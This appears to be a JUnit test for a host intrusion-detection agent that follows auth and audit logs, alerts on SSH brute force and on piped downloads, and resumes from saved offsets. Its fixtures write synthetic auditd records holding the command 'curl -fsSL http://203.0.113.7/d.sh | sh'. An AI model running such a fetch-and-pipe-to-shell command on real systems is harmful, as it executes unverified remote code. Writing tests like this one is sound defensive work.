package dev.minewarden.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.cli.host.LogFollowers;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** The agent follows the auth and audit logs of its root while it runs, and resumes where it stopped. */
class AgentLogFollowingTest {
  private static final String BRUTE_FORCE = "bb61703e-a46d-4587-825c-16830b451c2e";
  private static final String PIPE_TO_SHELL = "Download Piped Into A Shell";
  private static final DateTimeFormatter SYSLOG = DateTimeFormatter.ofPattern("MMM d HH:mm:ss", Locale.ROOT);

  @TempDir Path dir;

  /** An agent running in a thread of this JVM. */
  private static final class Running {
    final AgentCommand agent = new AgentCommand();
    final StringWriter err = new StringWriter();
    final Thread thread;
    int exit = -1;

    Running(String... args) {
      CommandLine cl = new CommandLine(agent);
      cl.setOut(new PrintWriter(new StringWriter()));
      cl.setErr(new PrintWriter(err, true));
      thread = new Thread(() -> exit = cl.execute(args), "agent-under-test");
      thread.start();
    }

    void stop() throws InterruptedException {
      agent.stop();
      thread.join(TimeUnit.SECONDS.toMillis(20));
      assertThat(thread.isAlive()).as("agent stopped").isFalse();
      assertThat(exit).isZero();
    }
  }

  private static void await(String what, Supplier<Boolean> test) throws Exception {
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
    while (!test.get()) {
      assertThat(System.nanoTime()).as(what).isLessThan(deadline);
      TimeUnit.MILLISECONDS.sleep(50);
    }
  }

  private static String read(Path p) {
    try {
      return Files.exists(p) ? Files.readString(p, StandardCharsets.UTF_8) : "";
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static long count(String text, String needle) {
    return text.lines().filter(l -> l.contains(needle)).count();
  }

  private static void append(Path file, String text) throws IOException {
    Files.writeString(file, text, StandardCharsets.UTF_8, StandardOpenOption.APPEND);
  }

  private static String failedLogins(int n) {
    StringBuilder b = new StringBuilder();
    String now = ZonedDateTime.now(ZoneOffset.UTC).format(SYSLOG);
    for (int i = 0; i < n; i++) {
      b.append(now).append(" fixture-host sshd[").append(4000 + i).append("]: Failed password for root from ")
          .append("203.0.113.9 port ").append(50000 + i).append(" ssh2\n");
    }
    return b.toString();
  }

  /** A raw auditd execve group: sh -c 'curl ... | sh', stamped now. */
  private static String curlPipeShell(int serial) {
    long now = System.currentTimeMillis();
    String msg = "msg=audit(" + now / 1000 + "." + String.format(Locale.ROOT, "%03d", now % 1000) + ":" + serial + "): ";
    String cmd = "curl -fsSL http://203.0.113.7/d.sh | sh";
    return "type=SYSCALL " + msg + "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2"
        + " ppid=900 pid=" + (9000 + serial) + " auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0"
        + " tty=(none) ses=4 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)\n"
        + "type=EXECVE " + msg + "argc=3 a0=\"sh\" a1=\"-c\" a2=\"" + cmd + "\"\n"
        + "type=CWD " + msg + "cwd=\"/tmp\"\n"
        + "type=PATH " + msg + "item=0 name=\"/bin/sh\" inode=131 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00"
        + " nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0\n"
        + "type=PROCTITLE " + msg + "proctitle="
        + HexFormat.of().withUpperCase().formatHex(("sh\0-c\0" + cmd).getBytes(StandardCharsets.UTF_8)) + "\n"
        + "type=EOE " + msg + "\n";
  }

  @Test
  void agent_alertsOnAppendedBruteForceAndCurlPipeShell_thenResumesWithoutRealerting() throws Exception {
    Path root = HostFixture.create(dir.resolve("root"));
    Path auth = root.resolve("var/log/auth.log");
    Path audit = root.resolve("var/log/audit/audit.log");
    Files.createDirectories(audit.getParent());
    // History before the first start is not the agent's business: hunt reads it.
    Files.writeString(auth, failedLogins(8), StandardCharsets.UTF_8);
    Files.writeString(audit, curlPipeShell(1), StandardCharsets.UTF_8);
    Path state = dir.resolve("state");
    Path alerts = dir.resolve("alerts.ndjson");
    String[] args = {"--root", root.toString(), "--state", state.toString(), "--interval", "0.2",
        "--lateness", "0.5", "--timezone", "UTC", "-o", alerts.toString()};

    Running first = new Running(args);
    await("agent follows both logs", () -> first.err.toString().contains("following audit"));
    append(auth, failedLogins(6));
    append(audit, curlPipeShell(2));
    await("brute force alerted", () -> read(alerts).contains(BRUTE_FORCE));
    await("curl | sh alerted", () -> read(alerts).contains(PIPE_TO_SHELL));
    first.stop();

    String after = read(alerts);
    assertThat(count(after, BRUTE_FORCE)).isEqualTo(1);
    assertThat(count(after, PIPE_TO_SHELL)).as("only the record appended while running").isEqualTo(1);
    assertThat(after).contains("\"pid\":9002").doesNotContain("\"pid\":9001");
    assertThat(state.resolve(LogFollowers.STATE_FILE)).exists();

    // Written while the agent was down: read on restart, from the saved offset.
    append(audit, curlPipeShell(3));
    Running second = new Running(args);
    await("restart reads what was written while down", () -> read(alerts).contains("\"pid\":9003"));
    second.stop();

    String last = read(alerts);
    assertThat(count(last, PIPE_TO_SHELL)).isEqualTo(2);
    assertThat(count(last, BRUTE_FORCE)).as("no brute force re-raised from old lines").isEqualTo(1);
    assertThat(first.err.toString() + second.err.toString()).doesNotContain("line ");
  }
}
